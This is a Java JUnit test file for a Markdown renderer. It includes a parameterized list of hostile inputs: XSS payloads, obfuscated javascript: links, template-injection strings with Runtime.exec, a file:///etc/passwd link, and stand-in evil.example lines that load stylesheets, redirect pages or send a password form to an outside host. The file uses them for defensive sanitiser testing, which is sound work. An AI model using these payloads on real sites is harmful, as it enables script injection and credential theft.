package io.patchbay.banner.content;

import static org.assertj.core.api.Assertions.assertThat;

import io.patchbay.ui.RichText;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Of what somebody types only a few harmless pieces come through, whatever they try. */
@Tag("fast")
class MarkdownTests {

    @Test
    void formatsWhatItKnows() {
        assertThat(outline("Be *there* at **8**, `sharp`:\n\n- one\n- two\n\n1. [first](https://example.com/a?b=c&d)"))
                .isEqualTo("PARAGRAPH(Be EMPHASIS(there) at STRONG(8), CODE(sharp):)"
                        + "BULLETS(ITEM(one)ITEM(two))NUMBERS(ITEM(LINK<https://example.com/a?b=c&d>(first)))");
        assertThat(outline("one  \ntwo")).isEqualTo("PARAGRAPH(oneBREAK()\ntwo)");
    }

    @Test
    void whatItDoesNotKnowIsText() {
        assertThat(outline("# Title")).isEqualTo("PARAGRAPH(# Title)");
        assertThat(outline("<b>bold</b> & <script>x</script>"))
                .isEqualTo("PARAGRAPH(<b>bold</b> & <script>x</script>)");
        assertThat(outline("a ![alt](https://tracker.example/pixel.png) b")).doesNotContain("tracker");
    }

    static Stream<String> attacks() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "<svg><script>alert&#40;1)</script>",
                "<iframe src=javascript:alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"https://example.com\" onclick=\"alert(1)\">x</a>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<base href=\"https://evil.example/\">",
                "<form action=https://evil.example><input name=password></form>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java\nscript:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x](\u0001javascript:alert(1))",
                "[x]( javascript:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](vbscript:msgbox(1))",
                "[x](file:///etc/passwd)",
                "[x](http://example.com)",
                "[x](//evil.example)",
                "[x](/settings/banners)",
                "[x](https://example.com\" onmouseover=\"alert(1))",
                "[x](https://example.com \"a\" onmouseover=\"alert(1)\")",
                "[x](https://example.com@evil.example/)",
                "[x](https://examC}lto:a@evil.example)",
                "<https://example.com:443@evil.example>",
                "<javascript:alert(1)>",
                "![x](javascript:alert(1))",
                "![x](x\" onerror=\"alert(1))",
                "![x](https://example.com/x.png \"onerror=alert(1)\")",
                "[x][1]\n\n[1]: javascript:alert(1)",
                "```html\n<script>alert(1)</script>\n```",
                "`<script>alert(1)</script>`",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<?php echo 1 ?><img src=x onerror=alert(1)>",
                "</p></div><script>alert(1)</script>",
                "\"><script>alert(1)</script>",
                "${T(java.lang.Runtime).getRuntime().exec('x')}",
                "[[${7*7}]] [(${7*7})] __${7*7}__",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e");
    }

    /** Texts are escaped when they are printed; so nothing else than known pieces and https links may come out. */
    @ParameterizedTest
    @MethodSource("attacks")
    void anAttackIsTextOrNothing(String attack) {
        all(Markdown.read(attack)).forEach(piece -> {
            if (piece.tag() == RichText.Tag.LINK) {
                assertThat(piece.text()).startsWith("https://example.com").doesNotContain("\"", "<", ">", " ", "@");
            } else if (piece.tag() != RichText.Tag.TEXT) {
                assertThat(piece.text()).isEmpty();
            }
        });
    }

    @Test
    void deepNestingNeitherBreaksNorGrows() {
        for (var text : List.of("- ".repeat(1_000), "1. ".repeat(600), "*a **b ".repeat(280), "[".repeat(2_000))) {
            assertThat(depth(Markdown.read(text))).isLessThanOrEqualTo(9);
        }
    }

    private static Stream<RichText> all(List<RichText> pieces) {
        return pieces.stream().flatMap(piece -> Stream.concat(Stream.of(piece), all(piece.children())));
    }

    private static int depth(List<RichText> pieces) {
        return pieces.stream()
                .mapToInt(piece -> 1 + depth(piece.children()))
                .max()
                .orElse(0);
    }

    private static String outline(String text) {
        return outline(Markdown.read(text));
    }

    private static String outline(List<RichText> pieces) {
        return pieces.stream()
                .map(piece -> switch (piece.tag()) {
                    case TEXT -> piece.text();
                    case LINK -> "LINK<" + piece.text() + ">(" + outline(piece.children()) + ")";
                    default -> piece.tag() + "(" + outline(piece.children()) + ")";
                })
                .collect(Collectors.joining());
    }
}
